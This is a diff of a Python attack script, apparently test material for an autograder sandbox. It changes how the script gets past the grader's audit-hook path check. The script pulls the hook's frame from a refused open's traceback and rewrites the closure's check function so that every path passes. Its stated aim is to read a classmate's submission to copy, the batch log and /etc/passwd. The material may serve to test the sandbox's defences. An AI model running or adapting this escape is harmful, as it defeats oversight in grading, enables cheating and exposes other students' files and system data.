@@ -1,6 +1,6 @@
 """Attack: defeat the audit hook's path check for real (a tripwire, not a boundary): take the hook's
-frame from the traceback of a refused open and swap the code of the ``realpath`` it calls, so every
-path looks inside the submission's folder. Then read what the grader's host holds: a classmate's
+frame from the traceback of a refused open and swap the code of the path check in its closure, so
+every path passes. Then read what the grader's host holds: a classmate's
 file to copy, the batch's log, /etc/passwd. Only the kernel stands in the way now."""
 import glob
 import os
@@ -13,10 +13,14 @@ def _defeat():
     except PermissionError as exc:
         tb = exc.__traceback__
         while tb is not None:
-            rp = tb.tb_frame.f_locals.get("realpath")
-            if callable(rp):
-                here = os.getcwd() + "/inside"
-                rp.__code__ = (lambda filename, *, strict=False: here).__code__
+            check = tb.tb_frame.f_locals.get("outside")  # the hook's path check, a cell of its closure
+            if callable(check):
+                names = check.__code__.co_freevars  # a new body must keep the number of cells
+                src = ("def make():\n" + "".join(f"    {n} = None\n" for n in names) + "    def outside(arg):\n"
+                       f"        ({', '.join(names)},)\n        return False\n    return outside\n")
+                scope = {}
+                exec(src, scope)
+                check.__code__ = scope["make"]().__code__
                 return True
             tb = tb.tb_next
     return False
